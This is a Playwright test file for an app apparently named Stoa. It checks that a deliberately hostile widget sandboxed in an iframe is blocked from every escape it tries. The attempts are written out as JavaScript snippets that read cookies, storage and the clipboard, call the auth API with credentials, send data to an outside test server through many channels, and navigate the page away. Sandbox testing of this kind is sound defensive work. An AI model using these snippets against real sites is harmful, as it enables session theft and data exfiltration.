import { outsider } from '../support/servers/outsider.ts';
import { installWidget, uninstallWidgets, within } from '../support/servers/widgets.ts';
import { expect, test } from '../support/test.ts';

/**
 * What a hostile widget tries from its frame. Each attempt answers what it got hold of; a refusal is an exception or
 * `nothing`. `outside` is a server that nobody agreed to, `app` the origin of the page.
 */
const attempts: Record<string, string> = {
  'reads the cookies': 'return document.cookie',
  'sets a cookie': 'document.cookie = "a=b"; return document.cookie',
  'reads local storage': 'return JSON.stringify(localStorage)',
  'reads session storage': 'return JSON.stringify(sessionStorage)',
  'opens a database':
    'return await new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = () => ok("open"); r.onerror = no; })',
  'opens a cache': 'await caches.open("x"); return "open"',
  'reads the page’s document': 'return parent.document.title',
  'reads the top document': 'return top.document.body.innerHTML.slice(0, 20)',
  'reads a global of the page': 'return String(parent.document)',
  'replaces a function of the page': 'parent.fetch = () => {}; return "replaced"',
  'reads its own frame element': 'return String(frameElement.title)',
  'reads the page’s address': 'return parent.location.href',
  'leads the page away': 'top.location = outside; return "went"',
  'leads the parent away': 'parent.location.href = outside; return "went"',
  'opens a window': 'const w = window.open(outside); return w ? "opened" : nothing',
  'opens a tab of the app': 'const w = window.open(app + "/admin"); return w ? "opened" : nothing',
  'asks by alert': 'return alert("x") === undefined ? nothing : "asked"',
  'calls the API': 'return (await fetch(app + "/api/v1/auth/me")).status',
  'calls the API with credentials': 'return (await fetch(app + "/api/v1/auth/me", { credentials: "include" })).status',
  'refreshes the token':
    'return (await fetch(app + "/api/v1/auth/refresh-token", { method: "POST", credentials: "include", mode: "no-cors" })).type',
  'fetches from outside': 'return (await fetch(outside + "/fetch", { mode: "no-cors" })).type',
  'sends a beacon': 'return navigator.sendBeacon(outside + "/beacon", "x") ? nothing : nothing',
  'sends by XMLHttpRequest':
    'return await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", outside + "/xhr"); x.onload = () => ok("sent"); x.onerror = no; x.send(); })',
  'opens a WebSocket':
    'return await new Promise((ok, no) => { const s = new WebSocket(outside.replace("http", "ws")); s.onopen = () => ok("open"); s.onerror = no; })',
  'opens an event stream':
    'return await new Promise((ok, no) => { const s = new EventSource(outside + "/stream"); s.onopen = () => ok("open"); s.onerror = no; })',
  'loads a picture':
    'return await new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = no; i.src = outside + "/picture"; })',
  'loads a script':
    'return await new Promise((ok, no) => { const s = document.createElement("script"); s.onload = () => ok("loaded"); s.onerror = no; s.src = outside + "/script"; document.head.append(s); })',
  'imports a module from outside': 'return typeof (await import(outside + "/module"))',
  'imports a script of the app': 'return typeof (await import(app + "/assets/x.js"))',
  'runs text as code':
    'return await new Promise((ok, no) => { addEventListener("securitypolicyviolation", () => no("blocked")); ok(new Function("return 1")()); })',
  'runs an inline script':
    'const s = document.createElement("script"); s.textContent = "globalThis.ran = 1"; document.head.append(s); return globalThis.ran ?? nothing',
  'loads a style sheet':
    'return await new Promise((ok, no) => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onload = () => ok("loaded"); l.onerror = no; l.href = outside + "/style"; document.head.append(l); })',
  'loads a style’s picture':
    'const e = document.createElement("div"); e.style.background = "url(" + outside + "/css)"; document.body.append(e); return nothing',
  'loads a font': 'await new FontFace("f", "url(" + outside + "/font)").load(); return "loaded"',
  'plays a sound from outside':
    'return await new Promise((ok, no) => { const a = new Audio(outside + "/sound"); a.oncanplay = () => ok("plays"); a.onerror = no; a.load(); })',
  'opens a frame of outside':
    'return await new Promise((ok) => { const f = document.createElement("iframe"); f.src = outside + "/frame"; f.onload = () => ok(nothing); document.body.append(f); setTimeout(() => ok(nothing), 300); })',
  'opens a frame of the app':
    'return await new Promise((ok) => { const f = document.createElement("iframe"); f.src = app + "/admin"; f.onload = () => { try { ok(f.contentDocument?.title || nothing); } catch { ok(nothing); } }; document.body.append(f); setTimeout(() => ok(nothing), 300); })',
  'escapes by srcdoc':
    'return await new Promise((ok) => { const f = document.createElement("iframe"); f.srcdoc = "<script>parent.postMessage(document.cookie || 1, \'*\')</script>"; addEventListener("message", ({ source }) => source === f.contentWindow && ok("ran")); document.body.append(f); setTimeout(() => ok(nothing), 300); })',
  'starts a worker':
    'return await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => ok("ran"); w.onerror = no; })',
  'registers a service worker': 'await navigator.serviceWorker.register("/w/x.js"); return "registered"',
  'changes the base':
    'const b = document.createElement("base"); b.href = outside; document.head.append(b); return document.baseURI.startsWith(outside) ? "changed" : nothing',
  'hints at outside':
    'for (const rel of ["prefetch", "preconnect", "dns-prefetch", "preload", "modulepreload"]) { const l = document.createElement("link"); l.rel = rel; l.as = "script"; l.href = outside + "/" + rel; document.head.append(l); } return nothing',
  'talks to other tabs':
    'const c = new BroadcastChannel("stoa"); c.postMessage("x"); return c.name ? nothing : nothing',
  'connects by WebRTC':
    'const found = Object.getOwnPropertyNames(globalThis).filter((name) => name.includes("RTC")); return found.join() || nothing',
  'gets WebRTC back from a child frame':
    'const f = document.createElement("iframe"); document.body.append(f); return String(new f.contentWindow.RTCPeerConnection())',
  'reads the clipboard': 'return await navigator.clipboard.readText()',
  'asks for the place':
    'return await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok("here"), no))',
  'asks for the camera': 'await navigator.mediaDevices.getUserMedia({ video: true }); return "filmed"',
  'asks to notify': 'return (await Notification.requestPermission()) === "granted" ? "granted" : nothing',
  'goes full screen': 'await document.documentElement.requestFullscreen(); return "full"',
};

/** Runs one attempt and writes what it got into the page. */

const names = Object.keys(attempts);

/** `x/3` makes the third attempt, and says how it ended. */
const hostile = (outside: string) => `
const nothing = Symbol('nothing');
const app = new URL(location.href).origin, outside = ${JSON.stringify(outside)};
const attempts = [${Object.values(attempts)
  .map((code) => `async () => { ${code} }`)
  .join(',\n')}, async () => 'what is tried is told'];
const run = async (attempt) => {
  try {
    const got = await Promise.race([attempt(), new Promise((ok) => setTimeout(() => ok(nothing), 400))]);
    return got === nothing || got === '' ? 'nothing' : String(got);
  } catch { return 'nothing'; }
};
export default { api: 1, routes: [{ path: 'x/*', async mount(root, host, { path }) {
  root.textContent = 'Got ' + (await run(attempts[Number(path.slice(2))]));
} }] };`;

// The browser reports each refusal in the console.
test.use({ consoleErrors: [] });

let outside: Awaited<ReturnType<typeof outsider>>;
let address = '';

test.beforeAll(async ({ ownerApi }) => {
  outside = await outsider();
  address = `/m/${(await installWidget(ownerApi, 'Hostile', hostile(outside.url))).alias}/x`;
});
test.afterAll(async ({ ownerApi }) => {
  outside.close();
  await uninstallWidgets(ownerApi);
});

for (const [at, name] of names.entries())
  test(`a widget in a frame gets nothing when it ${name}`, async ({ admin: page }) => {
    await page.goto(`${address}/${at}`);
    await expect(within(page, 'isolated', 'Hostile').getByText('Got', { exact: false })).toHaveText('Got nothing');
    expect(outside.reached).toEqual([]);
    await expect(page).toHaveURL(`${address}/${at}`);
    await page.getByRole('link', { name: 'Stoa', exact: false }).first().click();
    await expect(page).toHaveURL('/');
  });

test('a widget in a frame that gets something says so', async ({ admin: page }) => {
  await page.goto(`${address}/${names.length}`);
  await expect(within(page, 'isolated', 'Hostile').getByText('Got what is tried is told')).toBeVisible();
});
